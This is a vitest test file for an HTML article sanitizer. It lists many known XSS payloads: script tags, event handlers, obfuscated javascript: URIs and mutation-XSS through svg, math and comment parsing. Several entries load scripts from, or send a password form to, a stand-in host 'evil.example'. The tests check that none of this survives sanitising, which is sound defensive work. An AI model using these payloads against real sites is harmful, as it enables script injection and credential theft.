// What articles keep and lose: known ways to smuggle script into HTML, and the markup that stays.
import { expect, it } from 'vitest';
import { articleMarkup, sanitizeArticle } from './sanitize.ts';

const image = '/images/01890000-0000-7000-8000-000000000000';

const hostile: [name: string, html: string][] = [
  ['a script', '<p>a<script>alert(1)</script>b</p>'],
  ['a script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['a script from elsewhere', '<script src="//evil.example/x.js"></script>'],
  ['a script that hides in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script without an end', '<p>a</p><script>alert(1)'],
  ['an event handler', '<p onclick="alert(1)">a</p>'],
  ['a handler without quotes', '<img src=x onerror=alert(1)>'],
  ['a handler on an allowed image', `<img src="${image}" onerror="alert(1)">`],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['a handler after a line break', '<p\nonmouseover\n=\nalert(1)>a</p>'],
  ['a handler behind a broken quote', `<img """><img src="${image}" alt="\`"onload=alert(1)">`],
  ['an attribute name with a bracket', '<p a<b="1" onclick="alert(1)">a</p>'],
  ['an address that is script', '<a href="javascript:alert(1)">a</a>'],
  ['script in mixed case', '<a href="JaVaScRiPt:alert(1)">a</a>'],
  ['script behind a space', '<a href=" javascript:alert(1)">a</a>'],
  ['script behind a control character', '<a href="&#1;javascript:alert(1)">a</a>'],
  ['script with a tab in it', '<a href="java&#9;script:alert(1)">a</a>'],
  ['script with a line break in it', '<a href="java\nscript:alert(1)">a</a>'],
  ['script with a named entity', '<a href="javascript&colon;alert(1)">a</a>'],
  ['script in decimal entities', '<a href="&#106;&#97;vascript:alert(1)">a</a>'],
  ['script in entities without an end', '<a href="&#0000106avascript&#58alert(1)">a</a>'],
  ['script with a comment in it', '<a href="java<!-- -->script:alert(1)">a</a>'],
  ['script of another kind', '<a href="vbscript:msgbox(1)">a</a>'],
  ['an address that is a page', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['a view of the source', '<a href="view-source:javascript:alert(1)">a</a>'],
  ['a blob', '<a href="blob:https://evil.example/1">a</a>'],
  ['a file', '<a href="file:///etc/passwd">a</a>'],
  [
    'a link that opens with a hold on us',
    '<a href="https://evil.example" target="x" rel="opener">a</a>',
  ],
  ['an image of script', '<img src="javascript:alert(1)">'],
  ['an image that is a drawing', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['an image that counts visitors', '<img src="https://evil.example/count.gif">'],
  ['an image without a scheme', '<img src="//evil.example/count.gif">'],
  ['an image that climbs out', '<img src="/images/../account/new-vote-ballot">'],
  ['an image with a source set', `<img src="${image}" srcset="https://evil.example/x 1x">`],
  ['a size that is a program', `<img src="${image}" width="100%;x" height="1 onload=alert(1)">`],
  ['a drawing', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  [
    'a drawing that animates an address',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  [
    'a drawing around foreign markup',
    '<svg><foreignObject><p onclick="alert(1)">a</p></foreignObject></svg>',
  ],
  [
    'a formula',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['a formula with a link', '<math href="javascript:alert(1)">a</math>'],
  [
    'markup that changes when read again',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ],
  [
    'a noscript that changes when read again',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a title that ends early', '<title><p title="</title><img src=x onerror=alert(1)>">'],
  ['a textarea that ends early', '<textarea></textarea/><img src=x onerror=alert(1)></textarea>'],
  ['an xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment that ends oddly', '<!-- --!><img src=x onerror=alert(1)>'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['character data', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a processing instruction', '<?xml version="1.0"?><?php echo 1 ?><p>a</p>'],
  ['a frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a frame with its own document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="javascript:alert(1)"><embed src="x.swf"></object>'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  ],
  ['a button that acts as a link', '<button formaction="javascript:alert(1)">a</button>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style', '<style>@import "https://evil.example/x.css";</style>'],
  [
    'a style on an element',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>',
  ],
  ['a class and an id of ours', '<p class="dialog" id="root" data-x="1">a</p>'],
  ['a name that hides one of ours', '<img name="getElementById"><a id="body" name="cookie">a</a>'],
  ['a video', '<video src="x" onloadstart="alert(1)"><source onerror="alert(1)"></video>'],
  ['a marquee', '<marquee onstart="alert(1)">a</marquee>'],
  ['details that open', '<details open ontoggle="alert(1)"><summary>a</summary></details>'],
  ['an element nobody knows', '<x-a onfocus="alert(1)" tabindex="1">a</x-a>'],
  ['ends of what it did not begin', '</p></div></main></body></html><script>alert(1)</script>'],
  ['a tag without an end', '<p>a<img src=x onerror=alert(1) '],
  ['an attribute without an end', '<p>a<a href="https://a.example/ onclick=alert(1)>b'],
  ['null characters', '<scr\0ipt>alert(1)</scr\0ipt><img src=x\0 onerror\0=alert(1)>'],
  ['wide brackets', '＜script＞alert(1)＜/script＞'],
  ['text that looks like markup', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['deep nesting', '<blockquote>'.repeat(5000)],
  ['a lone bracket', '<p>1 < 2 & 3 > 2 <'],
];

const attributeOf: Record<string, RegExp> = {
  href: /^(https?:\/\/[^/\\]|mailto:|[/#?](?![/\\]))/,
  rel: /^noopener$/,
  src: /^\/images\/[0-9a-f-]{36}$/,
  alt: /^/,
  width: /^\d{1,4}$/,
  height: /^\d{1,4}$/,
};

/**
 * Reads sanitized HTML by a grammar so strict that no two parsers could disagree about it: text
 * without brackets, and listed elements with listed, quoted attributes, properly nested. Answers
 * what breaks the rules.
 */
function breaches(html: string): string[] {
  const found: string[] = [];
  const open: string[] = [];
  const token = /([^<>]+)|<\/([a-z1-6]+)>|<([a-z1-6]+)((?: [a-z]+="[^"<>]*")*)( \/)?>/gy;
  while (token.lastIndex < html.length) {
    const at = token.lastIndex;
    const [, text, ended, begun, attributes, isSingle] = token.exec(html) ?? [];
    if (text !== undefined) {
      if (/\0|&(?!(#\d+|#x[\da-f]+|\w+);)/i.test(text)) found.push(`text: ${text}`);
    } else if (ended !== undefined) {
      if (open.pop() !== ended) found.push(`end of ${ended}`);
    } else if (begun !== undefined) {
      found.push(...breachesOfTag(begun, attributes ?? ''));
      if (!isSingle) open.push(begun);
    } else return [...found, `not markup: ${html.slice(at, at + 40)}`];
  }
  return [...found, ...open.map((tag) => `open: ${tag}`)];
}

function breachesOfTag(tag: string, attributes: string): string[] {
  const allowed = articleMarkup[tag];
  if (!allowed) return [`element: ${tag}`];
  const pairs = [...attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)];
  return pairs
    .filter(
      ([, name, value]) =>
        !allowed.includes(name ?? '') || !attributeOf[name ?? '']?.test(value ?? ''),
    )
    .map(([, name, value]) => `attribute: ${tag} ${name}=${value}`);
}

it('finds breaches at all', () => {
  for (const html of [
    '<script></script>',
    '<p onclick="x">a</p>',
    '<p onclick=x>a</p>',
    '<a href="javascript:x">a</a>',
    '<a href="//evil.example">a</a>',
    '<img src="https://evil.example/x" />',
    '<p>a',
    'a</p>',
    '<em><p></em></p>',
    '<!-- a -->',
    '1 < 2',
  ]) {
    expect([html, breaches(html).length]).not.toEqual([html, 0]);
  }
});

it.each(hostile)('lets nothing through: %s', (_name, html) => {
  const shown = sanitizeArticle(html);
  expect(breaches(shown)).toEqual([]);
  expect(sanitizeArticle(shown)).toBe(shown);
});

it.each(hostile)('nor inside, behind or cut short: %s', (_name, html) => {
  for (const around of [
    `<p>before ${html} after</p>`,
    `<ul><li><a href="/donate">${html}</a></li></ul>`,
    `<figure><img alt='${html}' src="${image}"></figure>`,
    `<a href="${html}">a</a>`,
    html + html,
    ...[3, 7, 11, 17].map((length) => html.slice(0, -length)),
  ]) {
    expect([around, ...breaches(sanitizeArticle(around))]).toEqual([around]);
  }
});

it('keeps an article as it is', () => {
  const article = `<h2>A</h2><h3>B</h3><h4>C</h4><p>One<br />two, <em>three</em> and <strong>four</strong>.</p><ul><li>a</li></ul><ol><li>b</li></ol><blockquote>c</blockquote><hr /><figure><img src="${image}" alt="A &quot;car&quot;" width="640" height="360" /><figcaption>d</figcaption></figure>`;
  expect(sanitizeArticle(article)).toBe(article);
});

it('keeps the words of what it drops, and writes old markup in today’s', () => {
  expect(sanitizeArticle('<div><h1>A</h1><b>b</b><i>i</i><span>c</span></div>')).toBe(
    '<h2>A</h2><strong>b</strong><em>i</em>c',
  );
});

it('says of a link to elsewhere that it gets no hold on us', () => {
  const links: [href: string, shown: string][] = [
    ['/donate?amt=25#x', '<a href="/donate?amt=25#x">a</a>'],
    ['donate', '<a href="/donate">a</a>'],
    ['../donate', '<a href="/donate">a</a>'],
    ['?page=2', '<a href="?page=2">a</a>'],
    ['/.//p.example', '<a>a</a>'],
    ['#prizes', '<a href="#prizes">a</a>'],
    ['mailto:press@home.example', '<a href="mailto:press@home.example">a</a>'],
    ['https://p.example/x', '<a href="https://p.example/x" rel="noopener">a</a>'],
    ['HTTP://p.example', '<a href="http://p.example/" rel="noopener">a</a>'],
    ['//p.example/x', '<a href="https://p.example/x" rel="noopener">a</a>'],
    ['/\\p.example/x', '<a href="https://p.example/x" rel="noopener">a</a>'],
    ['tel:+15551234', '<a>a</a>'],
    ['https://', '<a>a</a>'],
  ];
  for (const [href, shown] of links) {
    expect(sanitizeArticle(`<a href="${href}">a</a>`)).toBe(shown);
  }
});

it('gives an image a text and drops one that is not ours', () => {
  expect(sanitizeArticle(`<img src="${image}">`)).toBe(`<img src="${image}" alt="" />`);
  expect(sanitizeArticle('<p>a<img src="/favicon.ico">b</p>')).toBe('<p>ab</p>');
});

it('cleans every article, also when it meets more than it remembers', () => {
  for (let round = 0; round < 2; round++) {
    for (let at = 0; at < 450; at++) {
      expect(sanitizeArticle(`<p onclick="x">${at}</p>`)).toBe(`<p>${at}</p>`);
    }
  }
});

it('cleans a long article whole', () => {
  const line = '<p>Some words <em>with weight</em> and <a href="/x">a link</a>.</p>';
  expect(sanitizeArticle(line.repeat(2000))).toBe(sanitizeArticle(line).repeat(2000));
});
